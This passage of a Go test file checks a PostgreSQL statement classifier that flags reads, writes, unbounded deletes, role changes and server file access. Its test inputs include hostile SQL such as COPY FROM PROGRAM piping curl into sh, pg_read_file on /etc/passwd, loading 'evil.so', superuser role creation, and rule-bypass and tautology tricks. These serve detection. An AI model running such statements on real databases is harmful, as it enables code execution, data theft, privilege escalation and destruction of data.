package pgsql

import (
	"errors"
	"reflect"
	"strings"
	"testing"
)

// tables builds a table list from "schema.name" or "name" strings.
func tables(names ...string) []Table {
	var out []Table
	for _, n := range names {
		if i := strings.LastIndexByte(n, '.'); i >= 0 {
			out = append(out, Table{Schema: n[:i], Name: n[i+1:]})
		} else {
			out = append(out, Table{Name: n})
		}
	}
	return out
}

func funcs(names ...string) []string { return names }
func list(s ...string) []string      { return s }

// TestParseSingle checks the whole summary (all but Text and Fingerprint)
// of strings holding one statement.
func TestParseSingle(t *testing.T) {
	tests := []struct {
		name string
		sql  string
		want Statement
	}{
		// Reads.
		{name: "select", sql: "SELECT id FROM orders WHERE id = 1",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("orders")}},
		{name: "select schema", sql: "select * from public.orders o join sales.items i on i.o = o.id",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.orders", "sales.items")}},
		{name: "table", sql: "TABLE public.secrets",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},
		{name: "values", sql: "VALUES (1, 'a'), (2, 'b')",
			want: Statement{Kind: KindRead, Command: "SELECT"}},
		{name: "subquery in where", sql: "SELECT 1 FROM a WHERE x IN (SELECT y FROM public.secrets)",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("a", "public.secrets")}},
		{name: "subquery in select list", sql: "SELECT (SELECT max(v) FROM public.secrets)",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets"), Functions: funcs("max")}},
		{name: "lateral and union", sql: "SELECT * FROM a, LATERAL (SELECT * FROM b) x UNION ALL SELECT * FROM c",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("a", "b", "c")}},
		{name: "exists", sql: "SELECT EXISTS (SELECT 1 FROM secrets)",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("secrets")}},
		{name: "read cte", sql: "WITH s AS (SELECT * FROM public.secrets) SELECT * FROM s",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},
		{name: "duplicates removed", sql: "SELECT * FROM t, t AS u, public.t",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("t", "public.t")}},
		{name: "three part name", sql: "SELECT * FROM orders.public.secrets",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},

		// False positives: words in literals, comments and identifiers.
		{name: "drop in string", sql: "SELECT 'DROP TABLE x'",
			want: Statement{Kind: KindRead, Command: "SELECT"}},
		{name: "delete in dollar string", sql: "SELECT $$DELETE FROM secrets$$",
			want: Statement{Kind: KindRead, Command: "SELECT"}},
		{name: "tagged dollar string", sql: "SELECT $x$ ; DROP TABLE t; $x$ AS s",
			want: Statement{Kind: KindRead, Command: "SELECT"}},
		{name: "drop in comment", sql: "SELECT 1 -- ; DROP TABLE x",
			want: Statement{Kind: KindRead, Command: "SELECT"}},
		{name: "drop in nested block comment", sql: "SELECT /* a /* ; DROP TABLE x; */ still comment */ 1",
			want: Statement{Kind: KindRead, Command: "SELECT"}},
		{name: "quoted column named delete", sql: `SELECT "delete" FROM t`,
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("t")}},
		{name: "escape string", sql: `SELECT E'\'; DROP TABLE x; --'`,
			want: Statement{Kind: KindRead, Command: "SELECT"}},

		// Identifier normalisation: the bypass forms for table rules.
		{name: "upper case folded", sql: "SELECT * FROM PUBLIC.SECRETS",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},
		{name: "quoted lower", sql: `SELECT * FROM "public"."secrets"`,
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},
		{name: "quoted keeps case", sql: `SELECT * FROM "Public"."Secrets"`,
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("Public.Secrets")}},
		{name: "unicode escape", sql: `SELECT * FROM public.U&"s\0065crets"`,
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},
		{name: "unicode escape custom char", sql: `SELECT * FROM U&"p!0075blic" UESCAPE '!'.secrets`,
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},
		{name: "comment between names", sql: "SELECT * FROM public/**/./* x */secrets",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},
		{name: "line comment before table", sql: "SELECT * FROM -- c\n public.secrets",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("public.secrets")}},

		// Functions.
		{name: "qualified function", sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')",
			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("pg_catalog.pg_read_file", "pg_read_file"), ServerFiles: true}},
		{name: "function upper case", sql: "SELECT PG_READ_FILE('/etc/passwd')",
			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("pg_read_file"), ServerFiles: true}},
		{name: "quoted function", sql: `SELECT "pg_read_file"('/etc/passwd')`,
			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("pg_read_file"), ServerFiles: true}},
		{name: "function in from", sql: "SELECT * FROM lo_import('/etc/passwd')",
			want: Statement{Kind: KindRead, Command: "SELECT", Functions: funcs("lo_import"), ServerFiles: true, SideEffects: true}},
		{name: "function in argument", sql: "SELECT length(pg_read_file('/x')) FROM t",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("t"), Functions: funcs("length", "pg_read_file"), ServerFiles: true}},
		{name: "function in where of update", sql: "UPDATE t SET a = 1 WHERE id = pg_backend_pid()",
			want: Statement{Kind: KindWrite, Command: "UPDATE", Tables: tables("t"), Functions: funcs("pg_backend_pid")}},
		{name: "call", sql: "CALL public.do_things(1)",
			want: Statement{Kind: KindUtility, Command: "CALL", Functions: funcs("do_things", "public.do_things")}},

		// Writes.
		{name: "insert", sql: "INSERT INTO public.orders (id) VALUES (1)",
			want: Statement{Kind: KindWrite, Command: "INSERT", Tables: tables("public.orders")}},
		{name: "insert select", sql: "INSERT INTO a SELECT * FROM public.secrets RETURNING *",
			want: Statement{Kind: KindWrite, Command: "INSERT", Tables: tables("a", "public.secrets")}},
		{name: "insert on conflict", sql: "INSERT INTO a VALUES (1) ON CONFLICT (id) DO UPDATE SET v = excluded.v",
			want: Statement{Kind: KindWrite, Command: "INSERT", Tables: tables("a")}},
		{name: "update bounded", sql: "UPDATE orders SET status = 'x' WHERE id = 5",
			want: Statement{Kind: KindWrite, Command: "UPDATE", Tables: tables("orders")}},
		{name: "update from", sql: "UPDATE orders o SET v = s.v FROM public.secrets s WHERE s.id = o.id RETURNING (SELECT 1 FROM audit)",
			want: Statement{Kind: KindWrite, Command: "UPDATE", Tables: tables("audit", "orders", "public.secrets")}},
		{name: "delete using", sql: "DELETE FROM orders USING public.secrets s WHERE s.id = orders.id",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders", "public.secrets")}},
		{name: "delete current of", sql: "DELETE FROM orders WHERE CURRENT OF c",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders")}},
		{name: "merge", sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
			want: Statement{Kind: KindWrite, Command: "MERGE", Tables: tables("s", "t")}},
		{name: "select into", sql: "SELECT * INTO copy FROM public.secrets",
			want: Statement{Kind: KindWrite, Command: "SELECT INTO", Tables: tables("copy", "public.secrets")}},
		{name: "select for update", sql: "SELECT * FROM orders WHERE id = 1 FOR UPDATE",
			want: Statement{Kind: KindWrite, Command: "SELECT", Tables: tables("orders")}},
		{name: "select for share in subquery", sql: "SELECT * FROM (SELECT * FROM orders FOR SHARE) o",
			want: Statement{Kind: KindWrite, Command: "SELECT", Tables: tables("orders")}},

		// Unbounded UPDATE and DELETE.
		{name: "delete no where", sql: "DELETE FROM orders",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "update no where", sql: "UPDATE orders SET status = 'x'",
			want: Statement{Kind: KindWrite, Command: "UPDATE", Tables: tables("orders"), Unbounded: true}},
		{name: "where true", sql: "DELETE FROM orders WHERE true",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where 1=1", sql: "DELETE FROM orders WHERE 1=1",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where string eq", sql: "UPDATE orders SET a = 1 WHERE 'a' = 'a'",
			want: Statement{Kind: KindWrite, Command: "UPDATE", Tables: tables("orders"), Unbounded: true}},
		{name: "where or true", sql: "DELETE FROM orders WHERE id IS NOT NULL OR TRUE",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where id or 1=1", sql: "DELETE FROM orders WHERE id = 5 OR 1 = 1",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where not false", sql: "DELETE FROM orders WHERE NOT false",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where string true", sql: "DELETE FROM orders WHERE 't'",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where cast", sql: "DELETE FROM orders WHERE 'yes'::boolean",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where 2 > 1", sql: "DELETE FROM orders WHERE 2 > 1",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where 1 = '1'", sql: "DELETE FROM orders WHERE 1 = '1'",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where null is null", sql: "DELETE FROM orders WHERE NULL IS NULL",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where true is true", sql: "DELETE FROM orders WHERE true IS TRUE",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where in list", sql: "DELETE FROM orders WHERE 1 IN (1, 2)",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where not distinct", sql: "DELETE FROM orders WHERE 1 IS NOT DISTINCT FROM 1",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where 1=2 bounded", sql: "DELETE FROM orders WHERE 1 = 2",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders")}},
		{name: "where true and id bounded", sql: "DELETE FROM orders WHERE true AND id = 5",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders")}},
		{name: "where null bounded", sql: "DELETE FROM orders WHERE NULL",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders")}},
		{name: "where null or true", sql: "DELETE FROM orders WHERE NULL OR true",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders"), Unbounded: true}},
		{name: "where 1 not in bounded", sql: "DELETE FROM orders WHERE 1 NOT IN (1, 2)",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("orders")}},

		// Writes hidden in CTEs and queries.
		{name: "delete in cte", sql: "WITH d AS (DELETE FROM public.secrets RETURNING *) SELECT * FROM d",
			want: Statement{Kind: KindWrite, Command: "SELECT", Tables: tables("public.secrets"), Unbounded: true, WritesInCTE: true}},
		{name: "update in nested cte", sql: "SELECT * FROM (WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING a) SELECT * FROM u) x",
			want: Statement{Kind: KindWrite, Command: "SELECT", Tables: tables("t"), WritesInCTE: true}},
		{name: "insert in cte of insert", sql: "WITH i AS (INSERT INTO a VALUES (1) RETURNING *) INSERT INTO b SELECT * FROM i",
			want: Statement{Kind: KindWrite, Command: "INSERT", Tables: tables("a", "b"), WritesInCTE: true}},

		// EXPLAIN.
		{name: "explain select", sql: "EXPLAIN SELECT * FROM t",
			want: Statement{Kind: KindUtility, Command: "EXPLAIN", Tables: tables("t")}},
		{name: "explain delete", sql: "EXPLAIN DELETE FROM t",
			want: Statement{Kind: KindUtility, Command: "EXPLAIN", Tables: tables("t")}},
		{name: "explain analyze delete", sql: "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
			want: Statement{Kind: KindWrite, Command: "EXPLAIN", Tables: tables("t"), ExplainAnalyze: true}},
		{name: "explain options analyze", sql: "EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1",
			want: Statement{Kind: KindWrite, Command: "EXPLAIN", Tables: tables("t"), Unbounded: true, ExplainAnalyze: true}},
		{name: "explain analyze true", sql: "EXPLAIN (ANALYZE true) INSERT INTO t VALUES (1)",
			want: Statement{Kind: KindWrite, Command: "EXPLAIN", Tables: tables("t"), ExplainAnalyze: true}},
		{name: "explain analyze off", sql: "EXPLAIN (ANALYZE off) DELETE FROM t WHERE id = 1",
			want: Statement{Kind: KindUtility, Command: "EXPLAIN", Tables: tables("t")}},
		{name: "explain analyze false", sql: "EXPLAIN (ANALYZE false) DELETE FROM t WHERE id = 1",
			want: Statement{Kind: KindUtility, Command: "EXPLAIN", Tables: tables("t")}},
		{name: "explain analyze select", sql: "EXPLAIN ANALYZE SELECT * FROM t",
			want: Statement{Kind: KindRead, Command: "EXPLAIN", Tables: tables("t")}},
		{name: "explain analyze cte write", sql: "EXPLAIN ANALYZE WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d",
			want: Statement{Kind: KindWrite, Command: "EXPLAIN", Tables: tables("t"), WritesInCTE: true, ExplainAnalyze: true}},
		{name: "explain analyze execute", sql: "EXPLAIN ANALYZE EXECUTE q(1)",
			want: Statement{Kind: KindUtility, Command: "EXPLAIN", ExplainAnalyze: true, Executes: []string{"q"}}},
		{name: "create table as execute", sql: "CREATE TABLE c AS EXECUTE q(1)",
			want: Statement{Kind: KindDDL, Command: "CREATE TABLE AS", Tables: tables("c"), Executes: []string{"q"}}},
		{name: "explain analyze create table as", sql: "EXPLAIN ANALYZE CREATE TABLE c AS SELECT * FROM t",
			want: Statement{Kind: KindDDL, Command: "EXPLAIN", Tables: tables("c", "t"), ExplainAnalyze: true}},

		// COPY.
		{name: "copy from stdin", sql: "COPY public.orders FROM STDIN",
			want: Statement{Kind: KindWrite, Command: "COPY", Tables: tables("public.orders"), CopyDirection: CopyFrom}},
		{name: "copy to stdout", sql: "COPY public.secrets TO STDOUT",
			want: Statement{Kind: KindRead, Command: "COPY", Tables: tables("public.secrets"), CopyDirection: CopyTo}},
		{name: "copy query to", sql: "COPY (SELECT * FROM public.secrets) TO STDOUT WITH (FORMAT csv)",
			want: Statement{Kind: KindRead, Command: "COPY", Tables: tables("public.secrets"), CopyDirection: CopyTo}},
		{name: "copy delete returning to", sql: "COPY (DELETE FROM t RETURNING *) TO STDOUT",
			want: Statement{Kind: KindWrite, Command: "COPY", Tables: tables("t"), Unbounded: true, CopyDirection: CopyTo}},
		{name: "copy from program", sql: "COPY t FROM PROGRAM 'curl http://x | sh'",
			want: Statement{Kind: KindWrite, Command: "COPY", Tables: tables("t"), CopyDirection: CopyFrom, CopyProgram: true, Program: true}},
		{name: "copy to program", sql: "copy (select 1) to program 'cat > /tmp/x'",
			want: Statement{Kind: KindRead, Command: "COPY", CopyDirection: CopyTo, CopyProgram: true, Program: true}},
		{name: "copy from file", sql: "COPY t FROM '/etc/passwd'",
			want: Statement{Kind: KindWrite, Command: "COPY", Tables: tables("t"), CopyDirection: CopyFrom, CopyFile: true}},
		{name: "copy to file", sql: "COPY t TO '/tmp/t.csv'",
			want: Statement{Kind: KindRead, Command: "COPY", Tables: tables("t"), CopyDirection: CopyTo, CopyFile: true}},

		// DDL.
		{name: "drop table", sql: "DROP TABLE public.secrets",
			want: Statement{Kind: KindDDL, Command: "DROP TABLE", Tables: tables("public.secrets")}},
		{name: "drop tables quoted", sql: `drop table if exists "Orders", b.c cascade`,
			want: Statement{Kind: KindDDL, Command: "DROP TABLE", Tables: tables("Orders", "b.c")}},
		{name: "drop view", sql: "DROP VIEW v",
			want: Statement{Kind: KindDDL, Command: "DROP VIEW", Tables: tables("v")}},
		{name: "drop materialized view", sql: "DROP MATERIALIZED VIEW m",
			want: Statement{Kind: KindDDL, Command: "DROP MATERIALIZED VIEW", Tables: tables("m")}},
		{name: "drop function", sql: "DROP FUNCTION f(int)",
			want: Statement{Kind: KindDDL, Command: "DROP FUNCTION"}},
		{name: "truncate", sql: "TRUNCATE public.orders, items",
			want: Statement{Kind: KindDDL, Command: "TRUNCATE", Tables: tables("items", "public.orders")}},
		{name: "truncate table only", sql: "TRUNCATE TABLE ONLY orders RESTART IDENTITY",
			want: Statement{Kind: KindDDL, Command: "TRUNCATE", Tables: tables("orders")}},
		{name: "create table", sql: "CREATE TABLE s.t (id int PRIMARY KEY REFERENCES u(id))",
			want: Statement{Kind: KindDDL, Command: "CREATE TABLE", Tables: tables("u", "s.t")}},
		{name: "create table as", sql: "CREATE TABLE c AS SELECT * FROM public.secrets",
			want: Statement{Kind: KindDDL, Command: "CREATE TABLE AS", Tables: tables("c", "public.secrets")}},
		{name: "create materialized view", sql: "CREATE MATERIALIZED VIEW m AS SELECT * FROM t",
			want: Statement{Kind: KindDDL, Command: "CREATE MATERIALIZED VIEW", Tables: tables("m", "t")}},
		{name: "create view", sql: "CREATE VIEW v AS SELECT * FROM public.secrets",
			want: Statement{Kind: KindDDL, Command: "CREATE VIEW", Tables: tables("v", "public.secrets")}},
		{name: "alter table", sql: "ALTER TABLE orders ADD COLUMN x int",
			want: Statement{Kind: KindDDL, Command: "ALTER TABLE", Actions: list("ALTER TABLE ADD COLUMN"), Tables: tables("orders")}},
		{name: "rename table", sql: "ALTER TABLE public.secrets RENAME TO open",
			want: Statement{Kind: KindDDL, Command: "ALTER TABLE", Actions: list("ALTER TABLE RENAME"), Tables: tables("public.secrets")}},
		{name: "create index", sql: "CREATE INDEX ON orders (id)",
			want: Statement{Kind: KindDDL, Command: "CREATE INDEX", Tables: tables("orders")}},
		{name: "comment on table", sql: "COMMENT ON TABLE public.secrets IS 'x'",
			want: Statement{Kind: KindDDL, Command: "COMMENT", Tables: tables("public.secrets")}},
		{name: "create function", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
			want: Statement{Kind: KindDDL, Command: "CREATE FUNCTION"}},
		{name: "create extension", sql: "CREATE EXTENSION IF NOT EXISTS pgcrypto",
			want: Statement{Kind: KindDDL, Command: "CREATE EXTENSION"}},
		{name: "create schema", sql: "CREATE SCHEMA s",
			want: Statement{Kind: KindDDL, Command: "CREATE SCHEMA"}},
		{name: "drop database", sql: "DROP DATABASE orders",
			want: Statement{Kind: KindDDL, Command: "DROP DATABASE"}},

		// DCL.
		{name: "grant", sql: "GRANT SELECT ON public.secrets TO alice",
			want: Statement{Kind: KindDCL, Command: "GRANT", Tables: tables("public.secrets")}},
		{name: "revoke", sql: "REVOKE ALL ON TABLE orders FROM PUBLIC",
			want: Statement{Kind: KindDCL, Command: "REVOKE", Tables: tables("orders")}},
		{name: "grant role", sql: "GRANT admin TO alice",
			want: Statement{Kind: KindDCL, Command: "GRANT"}},
		{name: "create role", sql: "CREATE ROLE mallory LOGIN SUPERUSER",
			want: Statement{Kind: KindDCL, Command: "CREATE ROLE"}},
		{name: "create user", sql: "CREATE USER mallory",
			want: Statement{Kind: KindDCL, Command: "CREATE USER"}},
		{name: "alter role", sql: "ALTER ROLE alice SUPERUSER",
			want: Statement{Kind: KindDCL, Command: "ALTER ROLE"}},
		{name: "alter user password", sql: "ALTER USER alice PASSWORD 'x'",
			want: Statement{Kind: KindDCL, Command: "ALTER ROLE"}},
		{name: "drop role", sql: "DROP ROLE mallory",
			want: Statement{Kind: KindDCL, Command: "DROP ROLE"}},

		// Transaction control.
		{name: "begin", sql: "BEGIN", want: Statement{Kind: KindTransaction, Command: "BEGIN"}},
		{name: "start transaction", sql: "START TRANSACTION READ WRITE", want: Statement{Kind: KindTransaction, Command: "START TRANSACTION"}},
		{name: "commit", sql: "COMMIT", want: Statement{Kind: KindTransaction, Command: "COMMIT"}},
		{name: "end", sql: "END", want: Statement{Kind: KindTransaction, Command: "COMMIT"}},
		{name: "rollback", sql: "ROLLBACK", want: Statement{Kind: KindTransaction, Command: "ROLLBACK"}},
		{name: "savepoint", sql: "SAVEPOINT a", want: Statement{Kind: KindTransaction, Command: "SAVEPOINT"}},
		{name: "release", sql: "RELEASE SAVEPOINT a", want: Statement{Kind: KindTransaction, Command: "RELEASE"}},
		{name: "rollback to", sql: "ROLLBACK TO a", want: Statement{Kind: KindTransaction, Command: "ROLLBACK TO SAVEPOINT"}},

		// Utility.
		{name: "set", sql: "SET search_path = public", want: Statement{Kind: KindUtility, Command: "SET"}},
		{name: "show", sql: "SHOW search_path", want: Statement{Kind: KindUtility, Command: "SHOW"}},
		{name: "reset", sql: "RESET search_path", want: Statement{Kind: KindUtility, Command: "RESET"}},
		{name: "discard plans", sql: "DISCARD PLANS", want: Statement{Kind: KindUtility, Command: "DISCARD"}},
		{name: "listen", sql: "LISTEN ch", want: Statement{Kind: KindUtility, Command: "LISTEN"}},
		{name: "notify", sql: "NOTIFY ch, 'x'", want: Statement{Kind: KindUtility, Command: "NOTIFY"}},
		{name: "unlisten", sql: "UNLISTEN *", want: Statement{Kind: KindUtility, Command: "UNLISTEN"}},
		{name: "execute", sql: "EXECUTE q(1, pg_read_file('/x'))",
			want: Statement{Kind: KindUtility, Command: "EXECUTE", Functions: funcs("pg_read_file"), ServerFiles: true, Executes: []string{"q"}}},
		{name: "execute quoted name", sql: `EXECUTE "Q"`,
			want: Statement{Kind: KindUtility, Command: "EXECUTE", Executes: []string{"Q"}}},
		{name: "deallocate", sql: "DEALLOCATE ALL", want: Statement{Kind: KindUtility, Command: "DEALLOCATE"}},
		{name: "do", sql: "DO $$ BEGIN DELETE FROM public.secrets; END $$",
			want: Statement{Kind: KindUtility, Command: "DO"}},
		{name: "do language", sql: "DO LANGUAGE plpgsql 'BEGIN PERFORM 1; END'",
			want: Statement{Kind: KindUtility, Command: "DO"}},
		{name: "vacuum", sql: "VACUUM (ANALYZE) orders",
			want: Statement{Kind: KindUtility, Command: "VACUUM", Tables: tables("orders")}},
		{name: "analyze", sql: "ANALYZE public.orders",
			want: Statement{Kind: KindUtility, Command: "ANALYZE", Tables: tables("public.orders")}},
		{name: "lock", sql: "LOCK TABLE orders IN ACCESS EXCLUSIVE MODE",
			want: Statement{Kind: KindUtility, Command: "LOCK TABLE", Tables: tables("orders")}},
		{name: "checkpoint", sql: "CHECKPOINT", want: Statement{Kind: KindUtility, Command: "CHECKPOINT"}},
		{name: "load", sql: "LOAD 'evil.so'", want: Statement{Kind: KindUtility, Command: "LOAD", ServerFiles: true}},

		// PREPARE and cursors keep the inner statement's kind.
		{name: "prepare select", sql: "PREPARE q(int) AS SELECT * FROM public.secrets WHERE id = $1",
			want: Statement{Kind: KindRead, Command: "PREPARE", Tables: tables("public.secrets"), Prepares: "q"}},
		{name: "prepare delete", sql: "PREPARE q AS DELETE FROM orders",
			want: Statement{Kind: KindWrite, Command: "PREPARE", Tables: tables("orders"), Unbounded: true, Prepares: "q"}},
		{name: "prepare case folded", sql: "PREPARE Big AS DELETE FROM orders WHERE id = 1",
			want: Statement{Kind: KindWrite, Command: "PREPARE", Tables: tables("orders"), Prepares: "big"}},
		{name: "prepare function", sql: "PREPARE q AS SELECT pg_read_file($1)",
			want: Statement{Kind: KindRead, Command: "PREPARE", Functions: funcs("pg_read_file"), ServerFiles: true, Prepares: "q"}},
		{name: "prepare cte write", sql: "PREPARE q AS WITH d AS (DELETE FROM t WHERE id = $1 RETURNING *) SELECT * FROM d",
			want: Statement{Kind: KindWrite, Command: "PREPARE", Tables: tables("t"), WritesInCTE: true, Prepares: "q"}},
		{name: "declare cursor", sql: "DECLARE c CURSOR FOR SELECT * FROM public.secrets",
			want: Statement{Kind: KindRead, Command: "DECLARE CURSOR", Tables: tables("public.secrets")}},

		// Changes of role.
		{name: "set role", sql: "SET ROLE postgres",
			want: Statement{Kind: KindUtility, Command: "SET ROLE", Roles: true}},
		{name: "set local role", sql: "SET LOCAL ROLE postgres",
			want: Statement{Kind: KindUtility, Command: "SET ROLE", Roles: true}},
		{name: "set role quoted", sql: `SET "role" = 'postgres'`,
			want: Statement{Kind: KindUtility, Command: "SET ROLE", Roles: true}},
		{name: "set session authorization", sql: "SET SESSION AUTHORIZATION postgres",
			want: Statement{Kind: KindUtility, Command: "SET SESSION AUTHORIZATION", Roles: true}},
		{name: "reset role", sql: "RESET ROLE",
			want: Statement{Kind: KindUtility, Command: "RESET ROLE", Roles: true}},
		{name: "reset session authorization", sql: "RESET SESSION AUTHORIZATION",
			want: Statement{Kind: KindUtility, Command: "RESET SESSION AUTHORIZATION", Roles: true}},
		{name: "discard all", sql: "DISCARD ALL",
			want: Statement{Kind: KindUtility, Command: "DISCARD", Roles: true}},
		{name: "set_config role", sql: "SELECT set_config('role', 'postgres', false)",
			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("set_config"), Roles: true}},
		{name: "set_config qualified upper", sql: "SELECT pg_catalog.SET_CONFIG('ROLE', 'postgres', true)",
			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("pg_catalog.set_config", "set_config"), Roles: true}},
		{name: "set_config session authorization", sql: "SELECT set_config('session_authorization', 'postgres', false)",
			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("set_config"), Roles: true}},
		{name: "set_config cast", sql: "SELECT set_config('role'::text, 'postgres', false)",
			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("set_config"), Roles: true}},
		{name: "set_config dynamic", sql: "SELECT set_config(name, 'x', false) FROM settings",
			want: Statement{Kind: KindRead, Command: "SELECT", Tables: tables("settings"), SideEffects: true, Functions: funcs("set_config"), Roles: true, ServerFiles: true,
				Misreads: "it may turn standard_conforming_strings off"}},
		{name: "set_config other setting", sql: "SELECT set_config('work_mem', '64MB', false)",
			want: Statement{Kind: KindRead, Command: "SELECT", SideEffects: true, Functions: funcs("set_config")}},
		{name: "alter role set role", sql: "ALTER ROLE alice SET role = postgres",
			want: Statement{Kind: KindDCL, Command: "ALTER ROLE", Roles: true}},
		{name: "function with set role", sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET role = postgres AS 'SELECT 1'",
			want: Statement{Kind: KindDDL, Command: "CREATE FUNCTION", Roles: true}},
		{name: "cte name shadowing dml target", sql: "WITH secrets AS (SELECT 1) DELETE FROM secrets",
			want: Statement{Kind: KindWrite, Command: "DELETE", Tables: tables("secrets"), Unbounded: true}},
		{name: "set role in string", sql: "SELECT 'SET ROLE postgres', 'role'",
			want: Statement{Kind: KindRead, Command: "SELECT"}},
		{name: "set_config in update", sql: "UPDATE t SET a = set_config('role', 'postgres', false) WHERE id = 1",
			want: Statement{Kind: KindWrite, Command: "UPDATE", Tables: tables("t"), SideEffects: true, Functions: funcs("set_config"), Roles: true}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Parse(tt.sql)
			if err != nil {
				t.Fatalf("Parse(%q): %v", tt.sql, err)
			}
			if len(got) != 1 {
				t.Fatalf("Parse(%q): %d statements, want 1", tt.sql, len(got))
			}
			s := got[0]
			if s.Text == "" || s.Fingerprint == "" {
				t.Errorf("Parse(%q): Text %q, Fingerprint %q: want both set", tt.sql, s.Text, s.Fingerprint)
			}
			s.Text, s.Fingerprint = "", ""
			s.Inner = nil // TestBodies checks them
			if !reflect.DeepEqual(s, tt.want) {
				t.Errorf("Parse(%q):\n got %+v\nwant %+v", tt.sql, s, tt.want)
			}
		})
	}
}

// TestParseMulti checks how strings with several statements are split.
func TestParseMulti(t *testing.T) {
	tests := []struct {
		name  string
		sql   string
		texts []string
		kinds []Kind
	}{
		{name: "empty", sql: ""},
		{name: "only semicolons and comments", sql: " ; ;; -- nothing\n /* at all */"},
		{name: "select then drop", sql: "SELECT 1; DROP TABLE public.secrets",
			texts: []string{"SELECT 1", "DROP TABLE public.secrets"}, kinds: []Kind{KindRead, KindDDL}},
		{name: "trailing semicolon and spaces", sql: "  BEGIN;\n\tDELETE FROM t WHERE id = 1 ;\nCOMMIT;  ",
			texts: []string{"BEGIN", "DELETE FROM t WHERE id = 1", "COMMIT"},
			kinds: []Kind{KindTransaction, KindWrite, KindTransaction}},
		{name: "semicolon in string and comment", sql: "SELECT ';' -- ;\n; SELECT $$;$$ /* ; */",
			texts: []string{"SELECT ';' -- ;", "SELECT $$;$$ /* ; */"}, kinds: []Kind{KindRead, KindRead}},
		{name: "prepare then execute", sql: "PREPARE q AS DELETE FROM t; EXECUTE q",
			texts: []string{"PREPARE q AS DELETE FROM t", "EXECUTE q"}, kinds: []Kind{KindWrite, KindUtility}},
		{name: "hidden after comment", sql: "SELECT 1 /* */; DROP TABLE x --",
			texts: []string{"SELECT 1 /* */", "DROP TABLE x --"}, kinds: []Kind{KindRead, KindDDL}},
		{name: "multibyte text", sql: "SELECT 'é'; SELECT 'ü' AS x",
			texts: []string{"SELECT 'é'", "SELECT 'ü' AS x"}, kinds: []Kind{KindRead, KindRead}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := Parse(tt.sql)
			if err != nil {
				t.Fatalf("Parse(%q): %v", tt.sql, err)
			}
			var texts []string
			var kinds []Kind
			for _, s := range got {
				texts = append(texts, s.Text)
				kinds = append(kinds, s.Kind)
			}
